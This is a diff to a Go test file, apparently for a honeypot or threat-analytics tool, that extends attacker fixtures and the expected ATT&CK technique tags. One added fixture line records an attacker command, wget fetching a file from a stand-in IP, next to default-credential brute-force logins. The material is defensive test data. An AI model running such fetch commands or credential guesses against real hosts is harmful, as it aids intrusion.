@@ -124,6 +124,9 @@ func numbered() *state.Attacker {
 		}, large)
 	}
 	login("ssh", "root", "plaintext", "toor", 0xd1, event.Success, 31)
+	// Shown where the lists of all are cut: TestWhatMattersIsShownOfFullLists.
+	s.Admitted.Add(law.Entry{Key: s.Credentials.Keys()[0], Count: 34, First: moment(34), Last: moment(35), Rank: uint8(event.Success), Payload: "toor"}, large)
+	s.Known.Add(law.Entry{Key: "ssh\x00wget http://198.51.100.7/x", Count: 35, First: moment(36), Last: moment(37)}, large)
 	login("telnet", "admin", "plaintext", "1234", 0xd2, event.Failure, 32)
 	login("", "root", "md5", "hash", 0xd3, event.Unknown, 33)
 	for i, f := range fingerprintOf {
@@ -536,8 +539,8 @@ func TestEveryFieldHasItsOwnSource(t *testing.T) {
 		// Quartiles 50, 61 and 66: skew 1 − 6/16, spread (61 − 6)/61; one hour of
 		// 24 tells nothing of the day.
 		"behavior.beacon.ts_score": "0.763", "behavior.beacon.hist_score": "0", "behavior.beacon.dur_score": "0", "behavior.beacon.score": "0.254",
-		"threat.technique.id": `["T1105","T1110"]`, "threat.technique.name": `["Ingress Tool Transfer","Brute Force"]`,
-		"threat.tactic.id": `["TA0006","TA0011"]`, "threat.tactic.name": `["Credential Access","Command and Control"]`,
+		"threat.technique.id": `["T1105","T1110","T1595"]`, "threat.technique.name": `["Ingress Tool Transfer","Brute Force","Active Scanning"]`,
+		"threat.tactic.id": `["TA0006","TA0011","TA0043"]`, "threat.tactic.name": `["Credential Access","Command and Control","Reconnaissance"]`,
 		"threat.indicator.description": `"185.220.101.4, beaconing: 1001 events on 1 service of 4 decoys, 1006 login attempts (1007 successful), 1005 commands, 2 files"`,
 	})
 	shows(t, "a beacon", Attackers, r.AppendAttacker(nil, head, s), beat, asserted)
